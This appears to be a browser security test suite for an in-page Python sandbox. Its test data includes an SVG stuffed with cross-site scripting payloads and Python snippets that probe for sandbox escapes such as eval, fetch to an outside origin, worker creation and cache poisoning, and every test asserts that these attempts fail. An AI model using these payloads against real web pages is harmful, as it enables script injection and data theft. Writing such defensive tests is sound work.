"""A hostile edit, run by a reader who was talked into it, can't act on the page nor leave it."""

import zlib
from base64 import urlsafe_b64encode
from hashlib import sha256
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser

from .conftest import Figure, Visit, Visiting
from .serving import Site
from .workbench import cache_name

pytestmark = pytest.mark.browser

HOSTILE_SVG = """
@exhibit
def scores(d_k: Annotated[int, Slider(1, 512, scale="log2", play=True)] = 64):
    class Hostile:
        def svg(self, prefix):
            return '''<svg class="figure exhibit" viewBox="0 0 10 10" onload="window.hacked=1"
  xmlns:xlink="http://www.w3.org/1999/xlink" style="background:url(ORIGIN/style-attribute)">
<script>window.hacked = 2</script>
<script href="ORIGIN/script.js"></script>
<style>@import url(ORIGIN/import.css); * { fill: url(ORIGIN/fill) }</style>
<rect id="workings-page" class="skip-link c1" width="5" height="5" onclick="window.hacked=3"
  onmouseover="window.hacked=3" fill="url(ORIGIN/paint#p)" filter="url(ORIGIN/filter#f)"/>
<a href="javascript:window.hacked=4"><text id="linked" y="5">press</text></a>
<a xlink:href="ORIGIN/link"><text y="9">leave</text></a>
<foreignObject width="10" height="10"><body xmlns="http://www.w3.org/1999/xhtml">
<iframe src="ORIGIN/frame"></iframe><img src="x" onerror="window.hacked=5"/></body></foreignObject>
<image href="ORIGIN/image.png" width="1" height="1"/>
<image xlink:href="ORIGIN/image2.png" width="1" height="1"/>
<image href="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'/%3E"/>
<use href="ORIGIN/use.svg#x"/><use href="data:image/svg+xml,x#y"/>
<animate attributeName="href" values="javascript:window.hacked=6"/>
<set attributeName="onmouseover" to="window.hacked=7"/>
<text fill="red;background:url(ORIGIN/escape)" font-family="x\\\\url(ORIGIN/font)">ink</text>
<html:script xmlns:html="http://www.w3.org/1999/xhtml">window.hacked = 8</html:script>
</svg>'''

        def table(self):
            bad = "<img src=x onerror='window.hacked=9'>"
            return {"columns": [bad], "rows": [[bad], [{"toString": 1}]]}

    return Hostile(), "<img src=x onerror='window.hacked=10'> is what it says."
"""

REACHES = """
@exhibit
def scores(d_k: Annotated[int, Slider(1, 512, scale="log2", play=True)] = 64):
    import gc, js, pyodide_js, sys
    from pyodide.ffi import JsProxy
    reached = []

    def attempt(name, act):
        try:
            act()
        except BaseException:
            return
        reached.append(name)

    for name in ("fetch XMLHttpRequest WebSocket EventSource WebTransport RTCPeerConnection Worker "
                 "SharedWorker BroadcastChannel caches CacheStorage indexedDB IDBFactory navigator "
                 "importScripts postMessage close storage FontFace document window".split()):
        scope = js.globalThis
        while scope is not None:
            if js.Object.getOwnPropertyDescriptor(scope, name) is not None:
                reached.append(name)
            scope = js.Object.getPrototypeOf(scope)
    attempt("eval", lambda: js.eval("1"))
    attempt("Function", lambda: js.Function.new("return 1")())
    attempt("constructor", lambda: js.Array.constructor("return 1")())
    attempt("fetch", lambda: js.fetch("ORIGIN/fetch"))
    attempt("open_url", lambda: __import__("pyodide.http").http.open_url("ORIGIN/open"))
    attempt("http", lambda: __import__("pyodide.http").http.XMLHttpRequest)
    attempt("jsfetch", lambda: __import__("pyodide.http").http._jsfetch)
    attempt("urllib", lambda: __import__("urllib.request").request.urlopen("ORIGIN/urllib"))
    attempt("run_js", lambda: __import__("pyodide.code").code.run_js("1"))
    attempt("polyscript", lambda: __import__("polyscript"))
    attempt("pyscript", lambda: __import__("pyscript").window.document)
    attempt("caches", lambda: js.caches.open("OWN-CACHE"))
    attempt("worker", lambda: js.Worker.new("ORIGIN/worker.js"))
    for found in gc.get_objects():
        if isinstance(found, JsProxy):
            attempt("channel", lambda: found.sync.importJS)
            attempt("port", lambda: found.postMessage)
    genuine = js.MessagePort.prototype.postMessage
    attempt("patch", lambda: setattr(js.MessagePort.prototype, "postMessage", print))
    if js.MessagePort.prototype.postMessage != genuine:
        reached.append("patched")
    pyodide_js.loadPackage("ORIGIN/package.whl")
    return plain(), f"Reached: {sorted(set(reached) - {'patch'})}."


def plain():
    class Plain:
        def svg(self, prefix):
            return '<svg viewBox="0 0 10 10"></svg>'

        def table(self):
            return {"columns": [], "rows": []}

    return Plain()
"""

CALLS_THE_PAGE = """
@exhibit
def scores(d_k: Annotated[int, Slider(1, 512, scale="log2", play=True)] = 64):
    import asyncio, js
    from polyscript import xworker

    async def call(name, *arguments):
        try:
            await getattr(xworker.sync, name)(*arguments)
            js.console.log(f"page answered {name}")
        except BaseException as error:
            js.console.log(f"page refused {name}: {error}")

    for name in ("=59317780", "importJS", "importCSS", "isStuck"):
        asyncio.ensure_future(call(name, "ORIGIN/called", "x"))
    asyncio.ensure_future(js.fetch("ORIGIN/fetched", mode="no-cors"))
    for _ in range(2000):
        js.postMessage(js.Error.new("forged"))
        js.postMessage("polyscript:done")
    return plain(), "Called."
""" + REACHES[REACHES.index("\n\ndef plain") :]


def poisoned(visit: Visit) -> list[str]:
    """Return what the caches hold that is not, byte for byte, what the site serves there."""
    held = visit.page.evaluate(
        """async () => {
          const held = [];
          for (const name of await caches.keys()) {
            const cache = await caches.open(name);
            for (const request of await cache.keys()) {
              const bytes = await (await cache.match(request)).arrayBuffer();
              const sum = new Uint8Array(await crypto.subtle.digest("SHA-256", bytes));
              held.push([name, request.url, sum.toHex?.() ??
                [...sum].map((byte) => byte.toString(16).padStart(2, "0")).join("")]);
            }
          }
          return held;
        }"""
    )
    assert held
    own = cache_name(visit.site.folder)
    wrong = []
    for name, url, found in held:
        path = visit.site.folder / urlsplit(url).path.lstrip("/")
        path = path / "index.html" if path.is_dir() else path
        if name != own or sha256(path.read_bytes()).hexdigest() != found:
            wrong.append(url)
    return wrong


def test_a_hostile_picture_is_only_looked_at(visit: Visit, figure: Figure, outsider: Site):
    figure.run_code(HOSTILE_SVG.replace("ORIGIN", outsider.origin))
    figure.wait_for_sentence("<img src=x onerror='window.hacked=10'> is what it says.")
    figure.press("data")
    picture = figure.locator(".picture")
    shown = picture.evaluate(
        """(box) => [...box.querySelectorAll("*")].flatMap((e) =>
          [e.localName, ...[...e.attributes].map((a) => `${a.name}=${a.value}`)])"""
    )
    assert "rect" in shown
    assert "class=c1" in shown
    assert "text" in shown
    gone = {"script", "style", "foreignObject", "iframe", "img", "a", "animate", "set"}
    assert not set(shown) & gone
    assert not [s for s in shown if s.startswith(("on", "style=", "filter=", "id="))]
    assert not [s for s in shown if outsider.origin in s or "javascript" in s]
    assert not [s for s in shown if s.startswith(("href=", "xlink:href="))]
    figure.locator(".picture rect").dispatch_event("click")
    figure.locator(".picture rect").dispatch_event("mouseover")
    visit.page.wait_for_timeout(300)
    assert visit.page.evaluate("window.hacked") is None
    assert figure.locator(".data img").count() == 0
    assert figure.locator(".data td").first.inner_text().startswith("<img")
    assert outsider.requests == {}
    # The parser refuses inline styles and handlers even in a document that is never shown.
    refused = visit.page.evaluate("window.violations.splice(0)")
    assert all(" inline " in violation for violation in refused)


def linked(source: str) -> str:
    """Return a fragment that carries edited code, as a stranger's link would."""
    packed = zlib.compress(source.encode(), wbits=-15)
    return f"#exhibit-scores?code={urlsafe_b64encode(packed).decode().rstrip('=')}"


def test_a_hostile_edit_reaches_neither_network_nor_storage(
    visiting: Visiting, each_browser: Browser, outsider: Site
):
    visit = visiting(each_browser)
    hostile = REACHES.replace("OWN-CACHE", cache_name(visit.site.folder))
    visit.open(linked(hostile.replace("ORIGIN", outsider.origin)))
    figure = visit.figure()
    figure.locator(".cm-content").wait_for()
    visit.start()
    figure.locator("[data-editor=run-code]").click()
    figure.wait_for_sentence("Reached")
    assert figure.sentence == "Reached: []."
    visit.page.wait_for_timeout(500)
    assert outsider.requests == {}
    assert poisoned(visit) == []
    # Firefox tells of each refused eval, as it should.
    visit.errors[:] = [error for error in visit.errors if "blocked a JavaScript eval" not in error]
    registered = "navigator.serviceWorker.getRegistrations().then((all) => all.length)"
    assert visit.page.evaluate(registered) == 1
    figure.press("reset")
    figure.wait_for_sentence("With d_k = 64 ")


def test_even_a_worker_that_gives_nothing_up_can_neither_call_the_page_nor_leave(
    visiting: Visiting, chromium: Browser, outsider: Site
):
    # Without cryptography, as over plain HTTP, the page takes what comes for its own worker.
    unchecked = "Object.defineProperty(crypto, 'subtle', { value: undefined });"
    visit = visiting(chromium, unchecked, service_workers="block")

    def weaken(route):
        body = route.fetch().text()
        assert body.count("    give_up()\n") == 1
        route.fulfill(body=body.replace("    give_up()\n", ""), content_type="text/x-python")

    visit.page.route("**/python/worker.py", weaken)
    visit.open()
    visit.start()
    figure = visit.figure()
    figure.run_code(CALLS_THE_PAGE.replace("ORIGIN", outsider.origin))
    figure.wait_for_sentence("Called.")
    for _ in range(50):
        said = [line for line in visit.console if "page refused" in line or "answered" in line]
        if len(said) == 4:
            break
        visit.page.wait_for_timeout(100)
    assert len(said) == 4
    assert all("The page takes no calls." in line for line in said), said
    assert outsider.requests == {}
    figure.press("reset")
    figure.wait_for_sentence("With d_k = 64 ")  # forged errors did not end Python
    visit.page.evaluate("window.violations = []")  # the refused fetch is one, as it should be
    visit.elsewhere.clear()


@pytest.mark.parametrize(
    "reply",
    [
        "[]",
        "null",
        "not JSON",
        '{"ok": true}',
        '{"ok": true, "svg": 5, "sentence": {"a": 1}, "table": 7}',
        '{"ok": true, "svg": "<svg/><svg/>", "sentence": null, "table": null}',
        '{"ok": true, "svg": "<!DOCTYPE svg [<!ENTITY a \\"b\\">]><svg>&a;</svg>", "sentence": ""}',
        '{"ok": false}',
        '{"ok": false, "error": {"line": -1, "traceback": {"x": 1}}}',
    ],
)
def test_a_forged_answer_leaves_the_last_good_picture(visit: Visit, figure: Figure, reply: str):
    picture = figure.locator(".picture").inner_html()
    figure.run_code(
        f"import json\njson.dumps = lambda *a, **k: {reply!r}\n"
        "@exhibit\ndef scores(d_k: bool = True):\n    return None\n"
    )
    figure.locator(".rung-note", has_text="Running").wait_for(state="hidden")
    visit.page.wait_for_timeout(300)
    assert figure.locator(".picture").inner_html() == picture
    figure.press("reset")
    figure.set("d_k", 128)
    assert figure.sentence.startswith("With d_k = 128 ")
    visit.page.evaluate("window.violations.splice(0)")  # the parser's own page for bad XML
